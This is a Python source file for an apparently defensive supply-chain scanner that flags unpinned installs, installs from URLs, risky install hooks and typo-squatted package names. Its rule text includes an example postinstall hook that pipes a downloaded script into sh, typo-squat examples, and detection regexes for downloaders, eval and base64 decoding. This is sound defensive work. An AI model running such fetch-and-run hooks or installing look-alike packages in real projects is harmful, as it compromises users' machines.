"""Supply chain (R114-R119, R146): what the skill installs, from where, and what runs on install.

- unpinned installs of packages named nowhere else, installs from URLs, install hooks (R114-R119);
- package names one typo or look-alike letter away from a popular package (R146, popular_packages.py).
"""

from __future__ import annotations

import bisect
import re

from rapidfuzz.distance import DamerauLevenshtein

from registry.model import Skill
from registry.score import popular_packages
from registry.score.card import HOST, INSTALL, Use
from registry.score.card_rules.view import CONTACT, SkillView, _capped, _item, _where, program_name
from registry.score.risk.lines import INLINE
from registry.score.risk.rules import METADATA, Item, RiskRule, _rule, show
from registry.score.vocabulary import (
    DOWNLOADERS,
    FILE_TRANSFER,
    POWERSHELL_WEB,
    RAW_SOCKETS,
    host_kind,
    program_pattern,
    registrable,
    url_host,
)

UNKNOWN_PACKAGE = _rule(
    "R114", "low", "supply-chain",
    "unpinned package named nowhere else",
    "{what} {action} `{package}` without a version, and the skill names it nowhere else",
    "an unpinned package that the skill never explains may be a typo-squat, and whatever version is "
    "published at install time runs with the user's rights",
    "Reviewers: check that `{package}` is the package you expect. Authors: pin a version ({example}) and "
    "say what the package is for.",
    "{action_short} unpinned, unexplained {package}",
    METADATA,
    "npx some-helper@latest or pip install reqeusts, with neither named anywhere else in the skill",
)  # fmt: skip
SCRIPT_INSTALLS_UNKNOWN = _rule(
    "R115", "medium", "supply-chain",
    "script installs an unpinned, unexplained package",
    "{what} {action} `{package}` at run time without a version, and the skill names it nowhere else",
    "a script that installs packages while it runs changes the user's machine out of sight; unpinned and "
    "unexplained, the package is whatever its registry serves that day",
    "Reviewers: check `{package}` on its registry. Authors: declare dependencies with versions "
    "(requirements.txt, package.json with a lockfile) instead of installing from a script.",
    "script {action_short} unpinned {package}",
    METADATA,
    "scripts/setup.sh: pip install colorama-helper",
)  # fmt: skip
INSTALL_FROM_CODE_HOST = _rule(
    "R116", "low", "supply-chain",
    "package installed from a repository",
    "{what} installs `{source_text}` from {host} rather than from a package registry",
    "code from a repository branch has no published version or review trail; what it installs can change "
    "at any push",
    "Pin a tag or commit (`@v1.2.3` or `@<sha>`), or install the released package from its registry.",
    "installs from {host}",
    METADATA,
    "pip install git+https://github.com/example/tool.git",
)  # fmt: skip
INSTALL_FROM_URL = _rule(
    "R117", "medium", "supply-chain",
    "package installed from a URL",
    "{what} installs `{source_text}`, {why_host}",
    "a package from an arbitrary URL bypasses the registry's names, versions and takedowns; it is a common "
    "way to deliver malware as an install",
    "Reviewers: check who runs {host}. Authors: publish the package to its registry and install it by name "
    "and version.",
    "installs from {host}",
    METADATA,
    "pip install https://files.example.net/tool-1.0.tar.gz",
)  # fmt: skip
HOOK_FETCHES_OR_EVALUATES = _rule(
    "R118", "medium", "supply-chain",
    "install hook that fetches or evaluates code",
    "{what}: `{command}`, which {does}",
    "install hooks run on `npm install` before anyone looks; a hook that downloads or evaluates code is the "
    "classic supply-chain payload",
    "Reviewers: read what the hook runs. Authors: remove the hook; ship what it fetches as reviewable files.",
    "{hook} hook {does_short}",
    METADATA,
    '"postinstall": "curl -s https://example.net/setup.sh | sh"',
)  # fmt: skip
HOOK_RUNS_CODE = _rule(
    "R119", "low", "supply-chain",
    "install hook runs code",
    "{what}: `{command}`",
    "install hooks run automatically on install, before the user has seen or asked for anything",
    "Prefer an explicit setup command the user runs; if the hook is needed, keep it to a build step.",
    "{hook} hook runs {program}",
    METADATA,
    '"postinstall": "node scripts/setup.js"',
)  # fmt: skip
TYPO_SQUAT = _rule(
    "R146", "medium", "supply-chain",
    "package name one typo or look-alike letter away from a popular package",
    "{what} installs {package}, {how} the popular {manager} package {popular}",
    "typo-squatted packages copy a popular name with a letter changed, dropped or swapped, or written with "
    "look-alike characters (capital I for l, 0 for o, Cyrillic letters), and run their install scripts on "
    "every machine that installs them by mistake",
    "Reviewers: check that {package} is the package meant, not {popular}. Authors: install {popular} if "
    "that is what the skill needs, and pin the version.",
    "installs {package}, {near} {popular}",
    METADATA,
    "pip install reqeusts",
)  # fmt: skip


# The rules declared here; the package's RULES lists every card rule in one order.
RULES: tuple[RiskRule, ...] = (
    UNKNOWN_PACKAGE,
    SCRIPT_INSTALLS_UNKNOWN,
    INSTALL_FROM_CODE_HOST,
    INSTALL_FROM_URL,
    HOOK_FETCHES_OR_EVALUATES,
    HOOK_RUNS_CODE,
    TYPO_SQUAT,
)


# -- vocabulary ----------------------------------------------------------------------------

_CODE_HOSTS = frozenset(
    {"github.com", "gitlab.com", "bitbucket.org", "codeberg.org", "git.sr.ht", "pypi.org", "files.pythonhosted.org",
     "registry.npmjs.org", "npmjs.com", "crates.io", "rubygems.org", "proxy.golang.org", "huggingface.co",
     "codeload.github.com", "objects.githubusercontent.com"}
)  # fmt: skip
_HOOK_FETCH = re.compile(
    program_pattern(DOWNLOADERS, POWERSHELL_WEB, RAW_SOCKETS, FILE_TRANSFER, ("fetch",)) + r"|\bhttps?://",
    re.IGNORECASE,
)
_HOOK_EVAL = re.compile(
    r"(?:\b(?:eval|exec|Function)\s*\(|\bnode\s+-(?:e|p|-eval)\b|\bpython[\d.]*\s+-c\b|\b(?:ba|z)?sh\s+-c\b|"
    r"\|\s*(?:ba|z)?sh\b|base64\s+-{1,2}d)",
    re.IGNORECASE,
)
_HOOK_BUILD = re.compile(
    r"^\s*(?:(?:npm|pnpm|yarn|bun)\s+(?:run\s+)?(?:build|compile|prepare|prepack)\b|tsc\b|husky\b|"
    r"patch-package\b|node-gyp\s+rebuild\b|prebuild-install\b|ngcc\b|lerna\s+bootstrap\b|echo\b)",
    re.IGNORECASE,
)
# Registries where anyone can publish any name (typo-squats live here); distribution repositories and
# Homebrew are curated.
OPEN_REGISTRIES = frozenset({"pip", "pypi", "npm", "gem", "cargo", "go", "composer", "deno", "jsr", "nuget", "hex"})
_PINNED_REF = re.compile(
    r"(?:@|/(?:archive|releases/download|tarball|zipball)/)(?:v?\d[\w.-]*|[0-9a-f]{7,40})(?:\.tar\.gz|\.zip)?$"
)
_MAX_PACKAGES = 40  # distinct unpinned packages looked up in the skill's text


def supply_chain(view: SkillView) -> list[Item]:
    installs = [u for u in view.card.of(INSTALL) if view.is_command(u) or u.detail == "hook"]
    if not installs:
        return []
    unknown_runs: list[Item] = []
    script_installs: list[Item] = []
    from_repo: list[Item] = []
    from_url: list[Item] = []
    hooks_bad: list[Item] = []
    hooks: list[Item] = []
    places = {(u.path, u.line) for u in installs}
    names = _NameIndex(view, places)
    for use in sorted(installs, key=lambda u: (u.path, u.line or 0)):
        manager, _, package = use.value.partition(":")
        if not package:
            manager, package = "", manager
        what = _where(view, use)
        evidence = use.evidence or use.value
        if use.detail == "unpinned":
            if manager.lower() not in OPEN_REGISTRIES:
                continue  # distribution and Homebrew packages come from curated repositories
            bare = _bare_package(package)
            if (
                not bare
                or bare.startswith("@types/")
                or (view.is_manifest(use) and _ranged(evidence, bare))
                or names.named_elsewhere(bare)
                or _is_own_package(view.skill, bare)
            ):
                continue
            action, action_short = _action(evidence)
            params = {
                "what": what,
                "action": action,
                "action_short": action_short,
                "package": bare,
                "example": _pin_example(manager, bare),
            }
            if view.is_script(use):
                script_installs.append(_item(SCRIPT_INSTALLS_UNKNOWN, use.path, use.line, evidence, **params))
            else:
                unknown_runs.append(_item(UNKNOWN_PACKAGE, use.path, use.line, evidence, **params))
        elif use.detail == "url":
            source = _install_source(package, evidence)
            host = _source_host(manager, source)
            if not host:
                continue  # a local archive or path: part of the skill, read like its other files
            insecure = source.lower().startswith(("http://", "git://", "ftp://"))
            params = {"what": what, "source_text": show(source), "host": host}
            if registrable(host) in _CODE_HOSTS or host in _CODE_HOSTS:
                if insecure:
                    params["why_host"] = f"over an unencrypted connection from {host}"
                    from_url.append(_item(INSTALL_FROM_URL, use.path, use.line, evidence, **params))
                elif not _PINNED_REF.search(source.split("#", 1)[0]) and "#commit=" not in source:
                    from_repo.append(_item(INSTALL_FROM_CODE_HOST, use.path, use.line, evidence, **params))
            else:
                kind = host_kind(host) or use.sensitive
                params["why_host"] = f"from {host}" + (f", {kind}" if kind else ", not a package registry")
                from_url.append(_item(INSTALL_FROM_URL, use.path, use.line, evidence, **params))
        elif use.detail == "hook":
            item = _hook_item(view, use)
            if item is not None:
                (hooks_bad if item.rule is HOOK_FETCHES_OR_EVALUATES else hooks).append(item)
    return (
        _capped(script_installs)
        + _capped(from_url)
        + _capped(hooks_bad)
        + _capped(unknown_runs)
        + _capped(from_repo)
        + _capped(hooks)
    )


class _NameIndex:
    """Whether a package name appears in the skill anywhere but its install commands."""

    def __init__(self, view: SkillView, install_places: set[tuple[str, int | None]]) -> None:
        self.view = view
        self.places = install_places
        self._texts: list[tuple[str, str, list[int], list[int]]] | None = None
        self._cache: dict[str, bool] = {}

    def _load(self) -> list[tuple[str, str, list[int], list[int]]]:
        if self._texts is None:
            self._texts = []
            for file in self.view.files:
                starts: list[int] = []
                numbers: list[int] = []
                parts: list[str] = []
                offset = 0
                for line in file.lines:
                    if line.context == INLINE:
                        continue  # the prose line holds the same text
                    starts.append(offset)
                    numbers.append(line.spans[0][1])
                    parts.append(line.text[:4000])
                    offset += len(parts[-1]) + 1
                self._texts.append((file.path, "\n".join(parts).lower(), starts, numbers))
        return self._texts

    def named_elsewhere(self, name: str) -> bool:
        """Cached; past `_MAX_PACKAGES` distinct names, a name counts as named (bounded cost, no finding)."""
        if name not in self._cache:
            self._cache[name] = len(self._cache) >= _MAX_PACKAGES or self._search(name)
        return self._cache[name]

    def _search(self, name: str) -> bool:
        skill = self.view.skill
        meta = " ".join(str(v) for v in (skill.name, skill.description, skill.homepage, skill.repository) if v)
        needle = re.compile(r"(?<![\w@/.-])" + re.escape(name.lower()) + r"(?![\w-])")
        if needle.search(meta.lower()) or needle.search(str(skill.metadata)[:20_000].lower()):
            return True
        lower = name.lower()
        for path, text, starts, numbers in self._load():
            if lower not in text:
                continue
            for match in needle.finditer(text):
                index = bisect.bisect_right(starts, match.start()) - 1
                if (path, numbers[index]) not in self.places:
                    return True
        return False


def _ranged(evidence: str, name: str) -> bool:
    """A manifest entry with a version range (`"octokit": "^4.1.2"`, `requests>=2.31`): the normal way to
    declare a dependency, locked by the package manager; only a missing version or `*`/`latest` counts."""
    match = re.search(re.escape(name) + r"""["']?\s*[:=]?\s*["']?\s*([\^~<>=!]{0,3})\s*v?(\d)""", evidence)
    return match is not None


def _bare_package(package: str) -> str:
    """`requests[socks]>=2` -> `requests`, `@scope/pkg@1` -> `@scope/pkg`."""
    name = package.strip().strip("'\"")
    if name.startswith("@"):
        scope, _, rest = name[1:].partition("/")
        return "@" + scope + "/" + re.split(r"[@\s]", rest, maxsplit=1)[0] if rest else ""
    name = re.split(r"[\[<>=!~;@\s]", name, maxsplit=1)[0]
    return name if re.fullmatch(r"[A-Za-z0-9][\w.+-]{0,213}", name or "") else ""


def _is_own_package(skill: Skill, name: str) -> bool:
    """The package is the skill's own tool: its name holds every word of the skill's name (`demo` -> `demo-cli`)."""
    tail = set(re.split(r"[-_.]", name.lower().rsplit("/", 1)[-1]))
    for own in {str(v).lower() for v in (skill.name, skill.location.id.rsplit("/", 1)[-1]) if v}:
        words = {w for w in re.split(r"[-_.\s]", own) if w}
        if words and words <= tail:
            return True
    return False


def _action(evidence: str) -> tuple[str, str]:
    lower = evidence.lower()
    for runner in ("npx", "bunx", "uvx", "pnpx", "pipx run", "pnpm dlx", "yarn dlx", "uv tool run"):
        if re.search(r"\b" + re.escape(runner) + r"\b", lower):
            return f"downloads and runs (`{runner}`)", "runs"
    return "installs", "installs"


def _pin_example(manager: str, name: str) -> str:
    manager = manager.lower()
    if manager in ("pip", "pip3", "pypi", "uv", "pipx", "uvx", "python"):
        return f"`{name}==1.2.3`"
    if manager in ("gem", "cargo", "go", "brew", "apt", "apt-get"):
        return f"`{name}` with an explicit version"
    return f"`{name}@1.2.3`"


def _install_source(package: str, evidence: str) -> str:
    source = package.strip()
    if "://" not in source and not re.match(r"^[\w.-]+@[\w.-]+:", source):
        match = re.search(r"(?:git\+)?(?:https?|git|ftp)://\S+", evidence)
        if match:
            source = match.group(0)
    return source.removeprefix("git+").strip("'\"")


def _source_host(manager: str, source: str) -> str:
    """Where an install from a URL or repository comes from; "" for a local path or archive."""
    host = url_host(source) or ""
    if host:
        return host
    if re.match(r"^[\w.-]+@[\w.-]+:", source):  # git@github.com:org/repo
        return source.split("@", 1)[1].split(":", 1)[0].lower()
    shorthand = re.match(r"^(github|gitlab|bitbucket):", source)
    if shorthand:
        return {"github": "github.com", "gitlab": "gitlab.com", "bitbucket": "bitbucket.org"}[shorthand.group(1)]
    if manager.lower() == "npm" and re.fullmatch(r"[\w.-]+/[\w.-]+(?:#\S*)?", source):
        return "github.com"  # npm's user/repo shorthand
    return ""


def _hook_item(view: SkillView, use: Use) -> Item | None:
    """`"postinstall": "<command>"` as the manifest reader reports it (value `npm-script:postinstall`)."""
    key, _, command = (use.evidence or "").partition(":")
    command = command.strip().strip(",").strip().strip("'\"")
    named = use.value.partition(":")[2] if ":" in use.value else ""
    hook = named or key.strip().strip("'\"") or "install"
    if not command:
        command = named or use.value
    what = f"{view.name(use.path)} (line {use.line}) declares a `{hook}` hook" if use.line else f"a `{hook}` hook"
    fetches = _HOOK_FETCH.search(command)
    evaluates = _HOOK_EVAL.search(command)
    script_contacts = _hook_script_contacts(view, command)
    if fetches or evaluates or script_contacts:
        does = (
            f"downloads ({show(fetches.group(0))})"
            if fetches
            else f"evaluates code ({show(evaluates.group(0))})"
            if evaluates
            else f"runs {script_contacts}"
        )
        does_short = "downloads" if fetches else "evaluates code" if evaluates else "runs a networked script"
        return _item(HOOK_FETCHES_OR_EVALUATES, use.path, use.line, command, what=what, command=show(command),
                     does=does, does_short=does_short, hook=hook)  # fmt: skip
    if _HOOK_BUILD.match(command):
        return None
    program = program_name(command.split()[0]) if command.split() else "a command"
    return _item(HOOK_RUNS_CODE, use.path, use.line, command, what=what, command=show(command), hook=hook,
                 program=program)  # fmt: skip


def _hook_script_contacts(view: SkillView, command: str) -> str:
    """The skill's script the hook runs, when that script contacts a host: "scripts/x.js, which fetches …"."""
    for path, file in view.scripts.items():
        base = file.name.rsplit("/", 1)[-1]
        if re.search(r"(?<![\w.-])" + re.escape(base) + r"(?![\w-])", command):
            for use in view.card.uses:
                if use.path == path and use.kind == HOST and use.detail in CONTACT:
                    return f"{file.name}, which contacts {use.value} (line {use.line})"
    return ""


def typo_squats(view: SkillView) -> list[Item]:
    """R146: an install of a package one edit (or one swap of neighbours) from a popular package's name, or
    the popular name written with look-alike characters (capital I for l, 0 for o, Cyrillic letters)."""
    items: list[Item] = []
    seen: set[str] = set()
    for use in sorted(view.card.of(INSTALL), key=lambda u: (u.path, u.line or 0, u.value)):
        manager, _, package = use.value.partition(":")
        popular_names = popular_packages.BY_MANAGER.get(manager.lower())
        written = _bare_package(package) if popular_names else ""
        bare = written.lower()
        if not bare or bare in seen or bare in popular_names or len(bare) < 5:
            continue
        seen.add(bare)
        folded = bare.replace("_", "-")
        if folded in popular_names:
            continue  # pip treats - and _ alike: the same package
        seen_as, swaps = popular_packages.lookalike(written)
        if swaps and seen_as.replace("_", "-") in popular_names:
            how = f"written with look-alike characters ({', '.join(swaps)}) to read as"
            items.append(_item(TYPO_SQUAT, use.path, use.line, use.evidence or use.value, what=_where(view, use),
                               package=written, manager=manager, popular=seen_as.replace("_", "-"), how=how,
                               near="a look-alike of"))  # fmt: skip
            continue
        for popular in sorted(popular_names):
            if abs(len(popular) - len(folded)) > 1 or (popular[0] != folded[0] and popular[1:] != folded[1:]):
                continue
            if DamerauLevenshtein.distance(folded, popular, score_cutoff=1) <= 1:
                items.append(_item(TYPO_SQUAT, use.path, use.line, use.evidence or use.value, what=_where(view, use),
                                   package=bare, manager=manager, popular=popular, how="one typo away from",
                                   near="one typo from"))  # fmt: skip
                break
        if len(items) >= 5:
            break
    return items
